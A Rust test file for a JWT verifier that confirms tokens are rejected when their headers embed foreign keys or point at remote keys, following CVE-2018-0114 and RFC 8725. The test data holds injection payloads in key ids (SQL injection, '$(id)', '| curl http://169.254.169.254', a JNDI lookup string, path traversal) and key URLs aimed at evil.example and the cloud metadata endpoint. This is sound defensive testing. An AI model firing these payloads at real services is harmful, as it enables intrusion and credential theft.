//! The header's instructions are ignored (CVE-2018-0114, RFC 8725 §3.10, §3.11).

use std::net::TcpListener;

use super::*;

pub(super) fn attacks() -> Vec<Attack> {
    let ours = ForeignKey::rs256("k", 0);
    let theirs = ForeignKey::rs256("k", 1);
    let keys = key_set(&[&ours]);
    let header = |changes: &[(&str, Value)]| {
        let mut header = ours.header();
        for (name, value) in changes {
            header[*name] = value.clone();
        }
        header
    };
    let mut attacks = Vec::new();
    let mut attack = |name: String, key: &ForeignKey, header: &Value, expected| {
        attacks.push(Attack::new(name, key.token_with(header, &claims()), &keys, expected));
    };

    for (name, value) in embedded(&theirs) {
        let named = header(&[(name, value.clone())]);
        attack(format!("{name} {value:.40}"), &theirs, &named, RefusalClass::Signature);
        let unknown = header(&[(name, value.clone()), ("kid", json!("theirs"))]);
        attack(format!("{name} under a kid of its own"), &theirs, &unknown, RefusalClass::UnknownKey);
        let mut without_kid = header(&[(name, value.clone())]);
        without_kid.as_object_mut().unwrap().remove("kid");
        attack(format!("{name} without kid"), &theirs, &without_kid, RefusalClass::Signature);
    }
    for kid in KEY_IDS {
        let named = header(&[("kid", json!(kid))]);
        attack(format!("kid {kid:?}"), &ours, &named, RefusalClass::UnknownKey);
    }
    attack(
        "a long kid".to_owned(),
        &ours,
        &header(&[("kid", json!("k".repeat(8_000)))]),
        RefusalClass::UnknownKey,
    );
    for kid in [json!(null), json!(0), json!(true), json!(["k"]), json!({"k": "k"})] {
        attack(format!("kid {kid}"), &ours, &header(&[("kid", kid.clone())]), RefusalClass::Malformed);
    }
    for crit in [
        json!(["b64"]),
        json!(["exp"]),
        json!(["alg"]),
        json!(["http://example.com/x"]),
        json!([]),
        json!(null),
        json!(""),
        json!("b64"),
        json!(0),
        json!(false),
        json!({}),
        json!([null]),
    ] {
        let critical = header(&[("crit", crit.clone()), ("b64", json!(true))]);
        attack(format!("crit {crit}"), &ours, &critical, RefusalClass::Malformed);
    }
    for typ in [
        json!("at+jwt"),
        json!("AT+JWT"),
        json!("application/at+jwt"),
        json!("Application/At+Jwt"),
        json!("logout+jwt"),
        json!("secevent+jwt"),
        json!("dpop+jwt"),
        json!("JOSE"),
        json!("JWT "),
        json!("JWE"),
        json!("application/json"),
        json!("application/jwt; x=y"),
        json!("x/jwt"),
        json!(""),
        json!(null),
        json!(1),
        json!(["JWT"]),
        json!({}),
    ] {
        attack(format!("typ {typ}"), &ours, &header(&[("typ", typ.clone())]), RefusalClass::Malformed);
    }
    for (name, value) in [("enc", "A256GCM"), ("zip", "DEF")] {
        attack(name.to_owned(), &ours, &header(&[(name, json!(value))]), RefusalClass::Malformed);
    }
    attacks
}

/// Keys embedded in the token, or references to them.
fn embedded(theirs: &ForeignKey) -> Vec<(&'static str, Value)> {
    let mut embedded = vec![
        ("jwk", theirs.jwk()),
        ("x5c", json!(["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"])),
        ("x5t", json!("AAAAAAAAAAAAAAAAAAAAAAAAAAA")),
        ("x5t#S256", json!("AAAA")),
        ("jwks", json!({"keys": [theirs.jwk()]})),
    ];
    for name in ["jku", "x5u"] {
        for url in [
            "https://evil.example/keys",
            "https://token.actions.example@evil.example/keys",
            "https://token.actions.example.evil.example/keys",
            "https://token.actions.example/redirect?to=https://evil.example/keys",
            "http://169.254.169.254/latest/meta-data",
            "file:///proc/self/environ",
        ] {
            embedded.push((name, json!(url)));
        }
    }
    embedded
}

/// Key ids that are paths, queries and addresses elsewhere.
const KEY_IDS: &[&str] = &[
    "",
    " ",
    "K",
    "k ",
    " k",
    "k\0",
    "k\n",
    "kk",
    "ｋ",
    "../k",
    "./k",
    "../../../../../../dev/null",
    "/dev/null",
    "/proc/sys/kernel/randomize_va_space",
    "C:\\Windows\\win.ini",
    "file:///dev/null",
    "k' OR '1'='1",
    "x' UNION SELECT 'AAAA'--",
    "k'; DROP TABLE issuers;--",
    "k\" OR \"\"=\"",
    "%",
    "*",
    "k|id",
    "$(id)",
    "`id`",
    "| curl http://169.254.169.254",
    "http://127.0.0.1:1/k",
    "https://evil.example/k",
    "//evil.example/k",
    "{{7*7}}",
    "${jndi:ldap://evil.example/k}",
    "0",
    "null",
    "%6b",
    "k#",
    "k?",
];

#[test]
fn a_valid_token_stays_valid_with_any_other_header_members() {
    let key = ForeignKey::rs256("k", 0);
    let keys = set(&key_set(&[&key]));
    for (name, value) in embedded(&ForeignKey::rs256("k", 1)) {
        let mut header = key.header();
        header[name] = value;
        verify(&key.token_with(&header, &claims()), &keys).unwrap();
    }
    for typ in ["JWT", "jwt", "application/jwt", "Application/JWT"] {
        let mut header = key.header();
        header["typ"] = json!(typ);
        verify(&key.token_with(&header, &claims()), &keys).unwrap();
    }
    verify(&key.token_with(&json!({"alg": "RS256", "kid": "k"}), &claims()), &keys).unwrap();
    verify(&key.token_with(&json!({"alg": "RS256"}), &claims()), &keys).unwrap();
}

#[test]
fn a_key_that_a_header_points_to_is_never_fetched() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/keys", listener.local_addr().unwrap());
    let key = ForeignKey::rs256("k", 0);
    for name in ["jku", "x5u", "kid", "iss", "jwks_uri"] {
        let mut header = key.header();
        header[name] = json!(url);
        let _ = verify(&key.token_with(&header, &claims()), &set(&key_set(&[&key])));
    }
    let refused = listener.accept().unwrap_err();
    assert_eq!(refused.kind(), std::io::ErrorKind::WouldBlock, "nobody came");
}
